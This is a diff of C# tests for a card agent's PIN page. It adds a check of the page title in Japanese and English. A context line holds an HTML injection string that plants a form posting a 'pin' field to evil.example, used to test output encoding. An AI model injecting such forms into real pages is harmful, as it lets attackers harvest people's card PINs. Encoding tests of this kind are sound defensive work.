@@ -61,6 +61,14 @@ public sealed class PinPageTests : AgentTest
     }
 
     [SkippableFact]
+    public async Task Title_has_the_programs_name_once()
+    {
+        (await Agent.GetAsync("/")).Html.ShouldContain("<title>カードエージェント</title>");
+        (await Agent.GetAsync("/", message => RunningAgent.Say(message, "Accept-Language", "en"))).Html.ShouldContain("<title>Card agent</title>");
+        (await Agent.AskLoginAsync()).Html.ShouldContain("<title>ログイン — カードエージェント</title>");
+    }
+
+    [SkippableFact]
     public async Task Texts_of_the_asker_are_encoded()
     {
         AgentRequest request = await Agent.Bank.AskAsync(StatementPurpose.Application, "</div><form action=https://evil.example><input name=pin>&amp;\"'");
